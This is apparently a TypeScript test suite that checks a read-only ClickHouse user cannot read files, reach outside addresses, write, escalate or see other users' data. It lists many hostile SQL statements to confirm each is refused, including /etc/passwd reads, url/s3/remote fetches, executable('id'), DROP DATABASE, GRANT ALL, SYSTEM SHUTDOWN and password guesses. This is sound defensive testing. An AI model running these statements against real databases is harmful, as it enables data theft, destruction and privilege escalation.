/**
 * The user that reads (console, Grafana, curl): attacked over HTTP and over the native protocol. It reads its database
 * and nothing else: no file, no address, no other user's query, no write, no way to give itself more.
 */
import { readdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { startTestClickHouse, type TestClickHouse } from '../../kit/clickhouse.ts';
import { closeServer, listenOnLoopback } from '../../kit/upstream.ts';
import { nativeQuery } from './native-client.ts';

const SECRET = 'the-content-of-a-file-that-is-not-for-readers';
let clickhouse: TestClickHouse;
let outside: Server;
let outsidePort: number;
let asked = 0;
let secretFile: string;

beforeAll(async () => {
  clickhouse = await startTestClickHouse();
  outside = createServer((_req, res) => {
    asked += 1;
    res.end(SECRET);
  });
  outsidePort = await listenOnLoopback(outside);
  secretFile = join(clickhouse.dataDir, 'secret.txt');
  writeFileSync(secretFile, SECRET);
});
afterAll(async () => {
  await clickhouse.stop();
  await closeServer(outside);
});
beforeEach(() => {
  asked = 0;
});

const attacks = (): readonly (readonly [kind: string, ...statements: string[]])[] => {
  const out = `127.0.0.1:${outsidePort}`;
  const writer = clickhouse.writer.username;
  return [
    [
      'reads files',
      `SELECT * FROM file('${secretFile}', 'LineAsString')`,
      `SELECT * FROM file('/etc/passwd', 'LineAsString', 'l String')`,
      `SELECT * FROM fileCluster('default', '/etc/passwd', 'LineAsString')`,
      `SELECT file('${secretFile}')`,
      `SELECT file('${secretFile}', 'd')`,
      `SELECT arrayMap(x -> file(x), ['${secretFile}'])`,
      `SELECT arrayMap(file, ['${secretFile}'])`,
      `WITH f AS (SELECT file('${secretFile}') AS x) SELECT * FROM f`,
      `SELECT * FROM view(SELECT file('${secretFile}'))`,
      `SELECT * FROM numbers(length(file('${secretFile}')))`,
      `SELECT file('${secretFile}') SETTINGS enable_analyzer = 0`,
      `SELECT FILE('${secretFile}')`,
      `SELECT catboostEvaluate('${secretFile}', 1)`,
      `SELECT 1 FORMAT Protobuf SETTINGS format_schema = '${secretFile}:X'`,
      `SELECT 1 FORMAT Template SETTINGS format_template_resultset = '${secretFile}'`,
      `SELECT 1 FORMAT Template SETTINGS format_template_row = '${secretFile}'`,
      `DESCRIBE format(Template, 'x') SETTINGS format_template_row = '${secretFile}'`,
      `DROP FUNCTION file`,
      `CREATE OR REPLACE FUNCTION file AS (x) -> x`,
      `SELECT * FROM sqlite('${secretFile}', 't')`,
      `SELECT * FROM filesystem('/etc')`,
      `SELECT * FROM mergeTreeIndex('${clickhouse.dataDir}', 'x')`,
      `DESCRIBE TABLE file('/etc/passwd', 'LineAsString')`,
      `SELECT * FROM executable('id', TSV, 'x String')`,
    ],
    [
      'asks addresses',
      `SELECT * FROM url('http://${out}/', 'LineAsString', 'l String')`,
      `SELECT * FROM urlCluster('default', 'http://${out}/', 'LineAsString', 'l String')`,
      `SELECT * FROM s3('http://${out}/bucket/x', 'LineAsString', 'l String')`,
      `SELECT * FROM s3Cluster('default', 'http://${out}/bucket/x', 'LineAsString', 'l String')`,
      `SELECT * FROM gcs('http://${out}/bucket/x', 'LineAsString', 'l String')`,
      `SELECT * FROM azureBlobStorage('http://${out}/', 'c', 'p', 'a', 'k', 'LineAsString')`,
      `SELECT * FROM hdfs('hdfs://${out}/x', 'LineAsString', 'l String')`,
      `SELECT * FROM iceberg('http://${out}/bucket/x')`,
      `SELECT * FROM deltaLake('http://${out}/bucket/x')`,
      `SELECT * FROM hudi('http://${out}/bucket/x')`,
      `SELECT * FROM remote('${out}', system.one)`,
      `SELECT * FROM remote('127.0.0.1:${clickhouse.nativePort}', 'glassway', 'calls', '${writer}', 'guess')`,
      `SELECT * FROM remoteSecure('${out}', system.one)`,
      `SELECT * FROM cluster('default', system.one)`,
      `SELECT * FROM mysql('${out}', 'd', 't', 'u', 'p')`,
      `SELECT * FROM postgresql('${out}', 'd', 't', 'u', 'p')`,
      `SELECT * FROM mongodb('${out}', 'd', 't', 'u', 'p', 'x String')`,
      `SELECT * FROM redis('${out}', 'k', 'k String, v String')`,
      `SELECT * FROM jdbc('x', 'y')`,
      `SELECT * FROM odbc('x', 'y')`,
      `SELECT * FROM arrowFlight('${out}', 'x')`,
      `DESCRIBE TABLE url('http://${out}/', 'CSV')`,
      `DESCRIBE format('AvroConfluent', unhex('000000000102')) SETTINGS format_avro_schema_registry_url = 'http://${out}/'`,
      `SELECT * FROM ytsaurus('http://${out}', '//x', 't', 'x String')`,
    ],
    [
      'writes',
      `INSERT INTO calls (id) VALUES ('x')`,
      `INSERT INTO calls (id) SELECT 'x'`,
      `INSERT INTO FUNCTION file('${clickhouse.dataDir}/written', 'TSV', 'x String') VALUES ('x')`,
      `INSERT INTO FUNCTION url('http://${out}/', 'TSV', 'x String') VALUES ('x')`,
      `INSERT INTO FUNCTION remote('127.0.0.1:${clickhouse.nativePort}', 'glassway', 'calls') (id) VALUES ('x')`,
      'ALTER TABLE calls DELETE WHERE 1',
      "ALTER TABLE calls UPDATE project = 'x' WHERE 1",
      'DELETE FROM calls WHERE 1',
      'TRUNCATE TABLE calls',
      'DROP TABLE calls',
      'DROP DATABASE glassway',
      'RENAME TABLE calls TO gone',
      'DETACH TABLE calls',
      'OPTIMIZE TABLE calls',
      'CREATE TABLE mine (x Int8) ENGINE = Memory',
      'CREATE TEMPORARY TABLE mine (x Int8)',
      'CREATE VIEW mine AS SELECT 1',
      'CREATE DATABASE mine',
      'CREATE FUNCTION mine AS (x) -> x',
      "CREATE DICTIONARY mine (k UInt64) PRIMARY KEY k SOURCE(HTTP(url 'http://127.0.0.1/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)",
      "CREATE NAMED COLLECTION mine AS a = 'b'",
      "BACKUP DATABASE glassway TO File('/tmp/stolen')",
      "RESTORE DATABASE glassway FROM File('/tmp/stolen')",
    ],
    [
      'gives itself more',
      'SET readonly = 0',
      'SET readonly = 1, allow_ddl = 1',
      'SELECT 1 SETTINGS readonly = 0',
      'SELECT 1 SETTINGS max_memory_usage = 0',
      'SELECT 1 SETTINGS max_execution_time = 0',
      'SELECT 1 SETTINGS max_execution_time = 100000',
      'SELECT 1 SETTINGS max_result_rows = 0',
      'SELECT 1 SETTINGS max_rows_to_read = 0',
      "SET profile = 'writer'",
      'SELECT 1 SETTINGS allow_ddl = 1, readonly = 0',
      'GRANT ALL ON *.* TO default',
      `GRANT ${writer} TO default`,
      `EXECUTE AS ${writer} SELECT 1`,
      'CREATE USER mine',
      "ALTER USER default IDENTIFIED BY 'x'",
      'SET ROLE ALL EXCEPT none_such',
      'CREATE ROW POLICY mine ON calls USING 1 TO default',
      'CREATE SETTINGS PROFILE mine',
    ],
    [
      'commands the server',
      'SYSTEM SHUTDOWN',
      'SYSTEM KILL',
      'SYSTEM STOP LISTEN HTTP',
      'SYSTEM START LISTEN HTTP',
      'SYSTEM STOP MERGES calls',
      'SYSTEM FLUSH LOGS',
      'SYSTEM DROP DNS CACHE',
      'SYSTEM RELOAD CONFIG',
      'SYSTEM DROP QUERY CACHE',
      'SYSTEM ENABLE FAILPOINT x',
      'KILL QUERY WHERE 1',
      'KILL MUTATION WHERE 1',
    ],
    [
      'sees others’ secrets',
      'SELECT * FROM system.users',
      'SELECT * FROM system.query_log',
      'SELECT * FROM system.text_log',
      'SELECT * FROM system.session_log',
      'SELECT * FROM system.server_settings',
      'SELECT * FROM system.named_collections',
      'SELECT * FROM system.disks',
      'SELECT * FROM system.storage_policies',
      'SELECT * FROM system.crash_log',
      'SELECT * FROM system.stack_trace',
      'SELECT * FROM system.user_directories',
      'SELECT * FROM system.quotas',
      'SELECT * FROM system.settings_profiles',
      'SELECT * FROM system.remote_data_paths',
      'SELECT * FROM system.clusters',
      'SELECT * FROM system.macros',
      "SELECT * FROM merge('system', '.*')",
      `SHOW GRANTS FOR ${writer}`,
      `SHOW CREATE USER ${writer}`,
      'SHOW ACCESS',
    ],
  ];
};

const flat = () => attacks().flatMap(([kind, ...statements]) => statements.map((sql) => ({ kind, sql })));

async function overHttp(sql: string, query = ''): Promise<{ refused: boolean; text: string }> {
  const answer = await fetch(`${clickhouse.url}/?database=glassway${query}`, { method: 'POST', body: sql });
  const text = await answer.text();
  // A query that fails after its headers are out says so at the end.
  return { refused: !answer.ok || /__exception__|DB::Exception/.test(text), text };
}

test('over HTTP every attack is refused, and nothing outside is asked', async () => {
  const passed: string[] = [];
  for (const { kind, sql } of flat()) {
    const { refused, text } = await overHttp(sql);
    if (!refused) passed.push(`${kind}: ${sql} → ${text.slice(0, 100)}`);
    expect(text).not.toContain(SECRET);
  }
  expect(passed).toEqual([]);
  expect(asked).toBe(0);
  expect(readdirSync(clickhouse.dataDir)).not.toContain('written');
});

test('over the native protocol every attack is refused as well', async () => {
  const native = (sql: string) => nativeQuery({ port: clickhouse.nativePort, database: 'glassway', user: 'default', password: '', sql });
  expect(await native('SELECT 1')).toMatchObject({ exception: undefined });
  const passed: string[] = [];
  for (const { kind, sql } of flat()) if ((await native(sql)).exception === undefined) passed.push(`${kind}: ${sql}`);
  expect(passed).toEqual([]);
  expect(asked).toBe(0);
});

test.each([
  ['readonly=0', '&readonly=0'],
  ['a profile of the writer', '&profile=writer'],
  ['a setting that lifts a limit', '&max_memory_usage=0'],
  ['a role', `&role=glassway_ingest`],
  ['a user without its password', '&user=glassway_ingest'],
  ['a session that goes on', '&session_id=s&readonly=0'],
  ['external data into a table', '&query=INSERT%20INTO%20calls%20(id)%20FORMAT%20TSV'],
])('a request’s own parameters give no more: %s', async (_what, query) => {
  const { refused } = await overHttp('SELECT 1', query);
  expect(refused).toBe(true);
});

test('`INTO OUTFILE` writes no file, and a GET changes nothing', async () => {
  await overHttp(`SELECT 1 INTO OUTFILE '${clickhouse.dataDir}/outfile'`);
  await fetch(`${clickhouse.url}/?query=${encodeURIComponent('DROP TABLE glassway.calls')}`);
  expect(readdirSync(clickhouse.dataDir)).not.toContain('outfile');
  expect((await overHttp('SELECT count() FROM calls')).text).toBe('0\n');
});

test('of the system’s tables only those are readable that say nothing of anybody', async () => {
  const names = (
    await clickhouse.client.query({
      query: "SELECT name FROM system.tables WHERE database = 'system' ORDER BY name",
      format: 'JSONEachRow',
    })
  ).json<{ name: string }>();
  const readable: string[] = [];
  for (const { name } of await names) if (!(await overHttp(`SELECT * FROM system.${name} LIMIT 1`)).refused) readable.push(name);
  expect(readable.filter((name) => !HARMLESS.has(name))).toEqual([]);
});

/** Constants of the program, generators, and lists that ClickHouse cuts down to what the user may see. */
const HARMLESS: ReadonlySet<string> = new Set([
  ...['aggregate_function_combinators', 'build_options', 'collations', 'columns', 'completions', 'contributors', 'current_roles'],
  ...['data_type_families', 'database_engines', 'databases', 'dictionary_layouts', 'disk_types', 'enabled_roles', 'formats', 'functions'],
  ...['licenses', 'numbers', 'numbers_mt', 'one', 'privileges', 'quota_usage', 'settings', 'table_engines', 'table_functions', 'tables'],
  ...['time_zones', 'zeros', 'zeros_mt'],
]);

test('no table function reads but those that make values up or read the own database', async () => {
  const names = (await overHttp('SELECT name FROM system.table_functions FORMAT TSV')).text.trim().split('\n');
  expect(names.length).toBeGreaterThan(50);
  const guesses = [
    `('${secretFile}')`,
    `('${secretFile}', 'LineAsString', 'l String')`,
    `('http://127.0.0.1:${outsidePort}/', 'LineAsString', 'l String')`,
    `('127.0.0.1:${outsidePort}', 'd', 't', 'u', 'p')`,
  ];
  for (const name of names)
    for (const guess of guesses) expect((await overHttp(`SELECT * FROM ${name}${guess} LIMIT 1`)).text).not.toContain(SECRET);
  expect(asked).toBe(0);
});

test('no setting that holds a path or an address can be changed to reach one, and a change of profile lifts no limit', async () => {
  const session = '&session_id=of-this-test';
  await overHttp("SET profile = 'default'", session);
  for (const statement of [
    'SET readonly = 0',
    'SELECT 1 SETTINGS max_result_rows = 0',
    `SELECT 1 SETTINGS format_schema = 'x:y'`,
    'DROP TABLE calls',
  ])
    expect({ statement, refused: (await overHttp(statement, session)).refused }).toEqual({ statement, refused: true });
});

test('lists of tables and columns show its own database only', async () => {
  for (const sql of [
    'SELECT DISTINCT database FROM system.tables',
    'SELECT DISTINCT database FROM system.columns',
    'SELECT name FROM system.databases',
  ]) {
    const { text, refused } = await overHttp(sql);
    const databases = refused ? [] : text.trim().split('\n');
    expect(databases.filter((name) => !['glassway', 'system', 'INFORMATION_SCHEMA', 'information_schema', ''].includes(name))).toEqual([]);
  }
});

test('the writer is no way out either: it has no file, no address and no other database', async () => {
  const { username, password } = clickhouse.writer;
  const passed: string[] = [];
  for (const [kind, ...statements] of attacks().filter(([name]) => name === 'reads files' || name === 'asks addresses'))
    for (const sql of statements) {
      const answer = await fetch(`${clickhouse.url}/?database=glassway`, {
        method: 'POST',
        body: sql,
        headers: { 'x-clickhouse-user': username, 'x-clickhouse-key': password },
      });
      const text = await answer.text();
      if (answer.ok && !text.includes('DB::Exception')) passed.push(`${kind}: ${sql}`);
    }
  expect(passed).toEqual([]);
  expect(asked).toBe(0);
});

test('the writer’s password is nothing that a reader can guess: none, its name, and the default’s do not open it', async () => {
  for (const password of ['', clickhouse.writer.username, 'default', 'password', 'clickhouse']) {
    const answer = await fetch(`${clickhouse.url}/?query=SELECT%201`, {
      headers: { 'x-clickhouse-user': clickhouse.writer.username, 'x-clickhouse-key': password },
    });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    await answer.text();
  }
});
